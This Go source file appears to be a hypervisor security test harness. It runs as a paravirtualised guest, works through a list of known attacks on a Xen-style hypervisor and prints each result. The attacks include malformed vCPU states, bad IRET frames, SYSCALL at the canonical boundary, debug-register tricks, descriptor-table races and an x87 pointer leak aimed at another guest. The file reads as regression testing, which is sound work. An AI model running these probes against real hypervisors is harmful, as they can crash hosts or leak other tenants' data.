package main

import (
	"unsafe"

	"resvirt/vi/abi"
	"resvirt/vi/seam"
)

// Makes known attacks, one after the other, and prints the result of each (option
// known=1). If an exception or an event ends an attack, the result is "trapped".

// knowns are the attacks. Each begins in the state that the ones before have
// left.
var knowns = [...]struct {
	name string
	run  func() int64
}{
	{"x87 pointers of others", otherPointers}, // first, while the witness still works
	{"DR6 at the start", func() int64 { return hypercall(abi.HypercallGetDebugreg, 6, 0, 0, 0, 0) }},
	{"DR7 at the start", func() int64 { return hypercall(abi.HypercallGetDebugreg, 7, 0, 0, 0, 0) }},
	{"FS base", func() int64 { initDraft(2); draft.FSBase = 1 << 63; return begin() }},
	{"MXCSR", func() int64 { initDraft(2); *(*uint32)(unsafe.Pointer(&draft.FPU[24])) = 0xffffffff; return begin() }},
	{"callbacks", func() int64 { initDraft(2); draft.FailsafeCallback = 1 << 63; return begin() }},
	{"LDT", func() int64 { initDraft(2); draft.LDTBase, draft.LDTEnts = 1<<63, 8; return begin() }},
	{"debug registers", func() int64 { initDraft(2); draft.DebugReg[0], draft.DebugReg[7] = 1<<63, 1; return begin() }},
	{"vm_assist", func() int64 { initDraft(2); draft.VMAssist = ^uint64(0); return begin() }},
	{"up", func() int64 { return vcpuOp(abi.VcpuopUp, 2, 0) }},
	{"set FS base", func() int64 { return setBase(abi.SegbaseFS, 1<<63) }},
	{"set GS base", func() int64 { return setBase(abi.SegbaseGSKernel, 1<<47) }},
	{"set other GS base", func() int64 { return setBase(abi.SegbaseGSUser, 1<<63) }},
	{"proper", func() int64 { initDraft(3); return begin() }},
	{"descriptor that changes", func() int64 { dice{&streams[0]}.race(3000); return 0 }},
	{"null GS", func() int64 { setBase(abi.SegbaseGSUserSel, 0); return segmentGS() }},
	{"null GS, level 3", func() int64 { setBase(abi.SegbaseGSUserSel, 3); return segmentGS() }},
	{"watchpoint", func() int64 { watch(1 | 0xd<<16); store(arena, 1); return 0 }},
	{"DR6 after it", func() int64 { return hypercall(abi.HypercallGetDebugreg, 6, 0, 0, 0, 0) }},
	{"watchpoint after a switch", func() int64 { watch(1 | 0xd<<16); rest(); store(arena, 1); return 0 }},
	{"breakpoint held back", func() int64 {
		store(arena, abi.FlatKernelSS)
		watch(1 | 0xf<<16)
		stackBreak(arena)
		return setDebug(7, 0)
	}},
	{"CLI in user mode", userCLI},
	{"and went on", func() int64 { return int64(load(arena+pageSize+64) & 0xff) }},
	{"WRGSBASE before CR4", func() int64 { writeGSBase(1); return 0 }},
	{"CR4", func() int64 { writeCR4(1 << 16); return readCR4() & (1 << 16) }},
	{"WRGSBASE", func() int64 { writeGSBase(0x5eed); rest(); return readGSBase() }},
	{"iret to nowhere", func() int64 { badIret(1<<63, abi.FlatKernelCS, 0); return 0 }},
	{"iret to nowhere, by SYSRET", func() int64 { badIret(1<<63, abi.FlatKernelCS, abi.VGCFInSyscall); return 0 }},
	{"iret to no code", func() int64 { badIret(arena, 0x1234, 0); return 0 }},
	{"SYSCALL at the end of the half", syscallAtEnd},
	{"and was made", segmentGS},
	{"descriptor tables given back", tablesGivenBack},
	{"bases and breakpoint over calls", overCalls},
	{"breakpoint hit", func() int64 { return hypercall(abi.HypercallGetDebugreg, 6, 0, 0, 0, 0) & 1 }},
	{"GS base", readGSBase},
	{"FS base", readFSBase},
	{"GS", segmentGS},
	{"CR4 still", func() int64 { return readCR4() & (1 << 16) }},
	{"CLI at level 3", func() int64 { cli(); return 3 }},
}

// tableTurns counts the turns of tablesGivenBack, tableFound those in which the processor
// still saw the table.
var tableTurns, tableFound int64

// tablesGivenBack sets a descriptor table and gives it back, for a while in which the
// hypervisor may fail and recover. It returns how often the processor still saw the
// table when the frame was ours again, which we can write. If the processor sees no
// table it faults, and the next turn begins.
func tablesGivenBack() int64 {
	for tableTurns < 1000 {
		tableTurns++
		setTable()
		hypercall(abi.HypercallSetGDT, 0, 0, 0, 0, 0)
		if readable(flatSel) {
			tableFound++
		}
	}
	tableTurns = 0
	return tableFound
}

// overCalls sets all state of a vCPU that the processor keeps beside its general
// registers, and makes calls for a while, in which the hypervisor may fail and recover.
// Then it hits its breakpoint. Another breakpoint is on code at address 0, to which a
// failing hypervisor may jump.
func overCalls() int64 {
	setDebug(1, 0)
	watch(1 | 0xd<<16 | 1<<2)
	writeGSBase(0x1234567)
	setBase(abi.SegbaseFS, 0x7654321)
	setTable()
	hypercall(abi.HypercallUpdateDescriptor, frameOf(gdtPage)<<12+16, flatData, 0, 0, 0)
	setBase(abi.SegbaseGSUserSel, 2<<3|3) // a descriptor that nobody changes
	for range 3000 {
		hypercall(abi.HypercallXenVersion, 0, 0, 0, 0, 0)
	}
	store(arena, 1)
	return 0
}

var (
	knownNext  uint64
	knownBegun bool
	line       [80]byte
)

// known makes the remaining attacks. After an exception it starts again.
func known() {
	if knownBegun && tableTurns == 0 {
		knownSay(knowns[knownNext%uint64(len(knowns))].name, "trapped", 0)
		knownNext++
	}
	for knownNext < uint64(len(knowns)) {
		if knownBegun = true; tableTurns == 0 {
			mendEntries()
		}
		k := &knowns[knownNext%uint64(len(knowns))]
		knownSay(k.name, "", k.run())
		knownBegun = false
		knownNext++
	}
	say(seam.KnownDone + "\n")
	shutDown(abi.ShutdownPoweroff)
}

// knownSay prints the result of an attack.
func knownSay(name, what string, result int64) {
	n := copy(line[:], seam.Known)
	n += copy(line[n:], name)
	n += copy(line[n:], ": ")
	n += copy(line[n:], what)
	if what == "" {
		v := uint64(result)
		if result < 0 {
			n += copy(line[n:], "-")
			v = -v
		}
		for shift := 60; shift >= 0; shift -= 4 {
			n += copy(line[n:], "0123456789abcdef"[v>>shift&15:][:1])
		}
	}
	n += copy(line[n:], "\n")
	hypercall(abi.HypercallConsoleIO, abi.ConsoleIOWrite, uint64(n), addr(unsafe.Pointer(&line)), 0, 0)
}

// begin gives the vCPU of draft its first state, and brings it up if the state was
// accepted.
func begin() int64 {
	id := draft.Regs.RBP
	rc := initialise(id)
	if rc == 0 {
		vcpuOp(abi.VcpuopUp, id, 0)
	}
	return rc
}

func setBase(which, base uint64) int64 {
	return hypercall(abi.HypercallSetSegmentBase, which, base, 0, 0, 0)
}

// watch sets a breakpoint on the first word of the arena.
func watch(seven uint64) {
	setDebug(6, 0)
	setDebug(0, arena)
	setDebug(7, seven)
}

// userCLI executes CLI and STI in user mode, whose I/O privilege level is 3, then
// stores a byte and makes a system call.
func userCLI() int64 {
	at := arena + pageSize
	code := [...]byte{0xfa, 0xfb, 0xc6, 0x05, 64 - 9, 0, 0, 0, 1, 0x0f, 0x05}
	for i, b := range code {
		*(*byte)(ptr(at + uint64(i))) = b
	}
	store(at+64, 0)
	level := uint32(3)
	hypercall(abi.HypercallPhysdevOp, abi.PhysdevopSetIOPL, addr(unsafe.Pointer(&level)), 0, 0, 0)
	c := [10]uint64{4: at, 5: abi.FlatRing3CS64, 6: 2, 7: tops[0] - 64, 8: abi.FlatRing3SS64}
	iret(&c)
	return 0
}

func badIret(rip, cs, flags uint64) {
	c := [10]uint64{3: flags, 4: rip, 5: cs &^ 3, 6: 2, 7: tops[0] - 64, 8: abi.FlatKernelSS}
	iret(&c)
}

// syscallAtEnd executes SYSCALL at the very end of the lower half of the address
// space: the address behind it is not canonical.
func syscallAtEnd() int64 {
	const end = 1<<47 - pageSize
	code := arena + 8*pageSize
	store(code+pageSize-2-6, 0x050f<<48)
	below := code
	for i := uint64(9); i < 12; i++ {
		at := arena + i*pageSize
		for k := range uint64(512) {
			store(at+k*8, 0)
		}
		store(at+511*8, frameOf(below)<<12|0x67)
		hypercall(abi.HypercallUpdateVAMapping, at, frameOf(at)<<12|0x65, abi.UVMFInvlpg|abi.UVMFAll, 0, 0)
		below = at
	}
	req := [2]uint64{frameOf(start.PTBase)<<12 + 255*8, frameOf(below)<<12 | 0x67}
	if rc := hypercall(abi.HypercallMMUUpdate, addr(unsafe.Pointer(&req)), 1, 0, abi.DomidSelf, 0); rc != 0 {
		return rc
	}
	regs := [16]uint64{0: abi.HypercallSetSegmentBase, 6: 2, 7: abi.SegbaseGSUserSel}
	jump(end+pageSize-2, &regs)
	return 0
}

// otherPointers tries to see the addresses at which the witness, which shares a
// processor with one of our vCPUs, uses the x87 unit: AMD's FXRSTOR does not clear
// them. The x87 environment has their low 32 bits, which for the witness are in the
// upper half, for the hypervisor in the lower.
func otherPointers() int64 {
	found := uint64(0)
	for range 200 {
		initX87()
		rest()
		found |= x87Pointer() >> 31
	}
	return int64(found)
}
